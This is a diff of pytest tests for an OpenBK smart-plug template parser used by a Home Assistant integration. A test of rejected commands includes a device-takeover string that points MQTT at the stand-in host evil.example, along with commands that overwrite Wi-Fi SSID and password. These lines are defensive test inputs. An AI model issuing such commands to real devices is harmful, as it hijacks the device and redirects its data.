@@ -5,8 +5,10 @@ import json
 import pytest
 
 from custom_components.openbk.pyopenbk.obk.templates import (
+    NoteKind,
     TemplateError,
-    UnknownRoleError,
+    TemplateNote,
+    bits,
     parse_template,
 )
 from custom_components.openbk.pyopenbk.profile import PinAssignment
@@ -50,6 +52,8 @@ def test_a_template_is_read() -> None:
         PinAssignment(pin=11, role=PinRole.BTN, channel=1, channel2=4),
     )
     assert template.profile.has_meter
+    assert template.flags == 1 << 10
+    assert template.notes == ()
 
 
 def test_text_around_it_does_not_count() -> None:
@@ -78,11 +82,122 @@ def test_the_spellings_of_published_templates_are_forgiven(
     assert (pin.role, pin.channel) == expected
 
 
-def test_a_role_that_does_not_exist_is_named() -> None:
-    """So that somebody can correct it."""
-    with pytest.raises(UnknownRoleError) as refused:
-        pins_of({"26": "Relay;1"})
-    assert (refused.value.pin, refused.value.role) == (26, "Relay")
+@pytest.mark.parametrize(
+    ("pin", "use", "note"),
+    [
+        ("5", "Relay;1", TemplateNote(kind=NoteKind.UNKNOWN_ROLE, about="P5 Relay")),
+        ("05", " SCL ;1", TemplateNote(kind=NoteKind.UNKNOWN_ROLE, about="P5 SCL")),
+        ("29", "Rel;1", TemplateNote(kind=NoteKind.NO_PIN, about="29")),
+        ("P5", "Rel;1", TemplateNote(kind=NoteKind.NO_PIN, about="P5")),
+        ("x" * 99, "Rel;1", TemplateNote(kind=NoteKind.NO_PIN, about="x" * 32)),
+        ("5", 1, TemplateNote(kind=NoteKind.NO_PIN, about="5")),
+        ("5", "Rel;one", TemplateNote(kind=NoteKind.BAD_CHANNEL, about="P5 Rel;one")),
+        ("5", "Rel;64", TemplateNote(kind=NoteKind.BAD_CHANNEL, about="P5 Rel;64")),
+    ],
+)
+def test_a_pin_that_cannot_be_read_is_named_and_left_out(
+    pin: str, use: object, note: TemplateNote
+) -> None:
+    """One of them does not cost the others."""
+    template = parse_template(json.dumps({"pins": {"26": "Rel;1", pin: use}}))
+    assert template.profile.pins == pins_of({"26": "Rel;1"})
+    assert template.notes == (note,)
+
+
+def test_another_chip_is_named() -> None:
+    """The same board may be sold with it."""
+    for chip, notes in (
+        ("BK7231N", ()),
+        ("bk7231n ", ()),
+        ("BK7231T", (TemplateNote(kind=NoteKind.OTHER_CHIP, about="BK7231T"),)),
+    ):
+        text = json.dumps({"chip": chip, "pins": {"26": "Rel;1"}})
+        assert parse_template(text).notes == notes
+
+
+@pytest.mark.parametrize(
+    "board", ["CB2S\ud800", "x" * 33, "ż" * 17, "CB\n2S", "\x1b[0m"]
+)
+def test_a_module_that_cannot_be_one_is_left_out(board: str) -> None:
+    """Home Assistant could not save it, or nobody read it."""
+    template = parse_template(json.dumps({"board": board, "pins": {"26": "Rel;1"}}))
+    assert template.profile.module is None
+    assert [note.kind for note in template.notes] == [NoteKind.ODD_MODULE]
+
+
+@pytest.mark.parametrize(
+    ("command", "kept"),
+    [
+        (None, ""),
+        ("", ""),
+        ("  PowerSave 1 ", "PowerSave 1"),
+        (
+            "startDriver NTP\r\nntp_timeZoneOfs  13",
+            "startDriver NTP\nntp_timeZoneOfs  13",
+        ),
+        (
+            "addChangeHandler Channel1 == 1 addRepeatingEvent 0.5 1 setChannel 1 0",
+            "addChangeHandler Channel1 == 1 addRepeatingEvent 0.5 1 setChannel 1 0",
+        ),
+    ],
+)
+def test_the_command_of_a_template_is_kept(command: object, kept: str) -> None:
+    """It is a program: nothing in it is changed."""
+    template = parse_template(json.dumps({"pins": {"26": "Rel;1"}, "command": command}))
+    assert template.command == kept
+    assert template.notes == ()
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        5,
+        ["a"],
+        "x" * 1600,
+        "echo \ud800",
+        "echo \x00",
+        "backlog MqttHost evil.example; MqttPassword x",
+        "SSID1 mine",
+        "Password1 secret",
+    ],
+    ids=lambda value: repr(value)[:30],
+)
+def test_a_command_that_nobody_should_take_over_is_left_out(command: object) -> None:
+    """It is said, with its beginning."""
+    template = parse_template(json.dumps({"pins": {"26": "Rel;1"}, "command": command}))
+    assert template.command == ""
+    assert [note.kind for note in template.notes] == [NoteKind.ODD_COMMAND]
+    assert len(template.notes[0].about) <= 32
+
+
+@pytest.mark.parametrize(
+    ("flags", "kept", "kinds"),
+    [
+        ("1024", 1 << 10, []),
+        (1024, 1 << 10, []),
+        ("0", 0, []),
+        (None, 0, []),
+        # Telemetry as Tasmota sends it is what nobody wants here.
+        ("1073742848", 1 << 10, [NoteKind.UNWANTED_FLAGS]),
+        ("18446744073709551615"[:19], None, [NoteKind.UNWANTED_FLAGS]),
+        ("9" * 5000, 0, [NoteKind.ODD_FLAGS]),
+        ("-1", 0, [NoteKind.ODD_FLAGS]),
+        ("many", 0, [NoteKind.ODD_FLAGS]),
+        (True, 0, [NoteKind.ODD_FLAGS]),
+        ([1], 0, [NoteKind.ODD_FLAGS]),
+    ],
+    ids=lambda value: repr(value)[:24],
+)
+def test_the_flags_of_a_template_are_kept(
+    flags: object, kept: int | None, kinds: list[NoteKind]
+) -> None:
+    """But for those that would keep Home Assistant from hearing the socket."""
+    template = parse_template(json.dumps({"pins": {"26": "Rel;1"}, "flags": flags}))
+    assert [note.kind for note in template.notes] == kinds
+    if kept is not None:
+        assert template.flags == kept
+    assert 30 not in bits(template.flags)
+    assert template.flags < 1 << 52
 
 
 @pytest.mark.parametrize(
@@ -99,8 +214,10 @@ def test_a_role_that_does_not_exist_is_named() -> None:
         {},
     ],
 )
-def test_pins_that_are_none_are_refused(pins: dict[str, object]) -> None:
-    """Nothing is left out in silence."""
+def test_a_template_without_any_readable_pin_is_refused(
+    pins: dict[str, object],
+) -> None:
+    """There would be nothing left."""
     with pytest.raises(TemplateError):
         parse_template(json.dumps({"pins": pins}))
 
@@ -116,16 +233,14 @@ def test_other_texts_are_refused(text: str) -> None:
 
 
 def test_published_templates_are_read() -> None:
-    """72 plugs with a meter; only one uses roles of sensors that no longer have that name."""
+    """72 plugs with a meter, one with two pins that meter the same."""
     devices = published_plugs()
-    refused = []
-    for device in devices:
-        try:
-            template = parse_template(json.dumps(device))
-        except UnknownRoleError:
-            refused.append(device["name"])
-        else:
-            assert len(template.profile.pins) == len(device["pins"])
-            assert template.profile.problems == ()
     assert len(devices) == 72
-    assert len(refused) <= 2
+    left_out = 0
+    for device in devices:
+        template = parse_template(json.dumps(device))
+        unknown = [n for n in template.notes if n.kind is NoteKind.UNKNOWN_ROLE]
+        assert len(template.profile.pins) + len(unknown) == len(device["pins"])
+        assert template.profile.problems == ()
+        left_out += len(unknown)
+    assert left_out <= 4
